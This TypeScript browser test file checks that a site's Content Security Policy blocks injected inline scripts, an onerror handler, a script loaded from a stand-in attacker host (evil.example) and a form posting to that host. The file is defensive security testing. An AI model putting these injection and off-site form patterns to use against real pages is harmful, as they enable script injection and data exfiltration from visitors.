import type { Page } from 'playwright';
import { expect, test } from 'vitest';
import { browserForTests } from './browser.ts';

// what a policy refuses is said to the console, so every browser test of a page is one of its policy, too
const { open, provoke } = browserForTests();
declare global {
  interface Window {
    heardOf?: (refusal: string) => void;
  }
}

/** Tells the test of everything that the policy of a page refuses. */
function tell(): void {
  document.addEventListener('securitypolicyviolation', ({ violatedDirective, blockedURI, documentURI }) =>
    window.heardOf?.(`${violatedDirective} ${blockedURI} on ${documentURI}`),
  );
}

/** An empty page of a visitor; `refused` grows with what is refused to the pages it shows. */
async function watchedPage(refused: string[]): Promise<Page> {
  const page = await open('about:blank');
  await page.exposeFunction('heardOf', (refusal: string) => void refused.push(refusal));
  await page.addInitScript(tell);
  return page;
}

test('a script that gets into a page is not run, and a form does not leave the site (HARDENING A08)', async () => {
  provoke(/Content Security Policy/);
  const refused: string[] = [];
  const page = await watchedPage(refused);
  await page.goto('/sg/en');
  await page.evaluate(() => {
    const script = document.createElement('script');
    script.text = 'document.title = "taken over"';
    const picture = document.createElement('img');
    picture.setAttribute('onerror', 'document.title = "taken over"');
    picture.src = 'data:,';
    const foreign = document.createElement('script');
    foreign.src = 'https://evil.example/x.js';
    const form = document.createElement('form');
    form.action = 'https://evil.example/';
    document.body.append(script, picture, foreign, form);
    form.submit();
  });
  await expect
    .poll(() => refused.map((refusal) => refusal.split(' ', 1)[0]).sort())
    .toEqual(['form-action', 'script-src-attr', 'script-src-elem', 'script-src-elem']);
  expect(await page.title()).not.toBe('taken over');
});

test('the pages of the API can be read under their own policy', async () => {
  const refused: string[] = [];
  const page = await watchedPage(refused);
  await page.goto('/api/docs/');
  await page.getByText('/api/v1/rabbit/{region}/listings', { exact: true }).waitFor();
  expect(refused).toEqual([]);
});
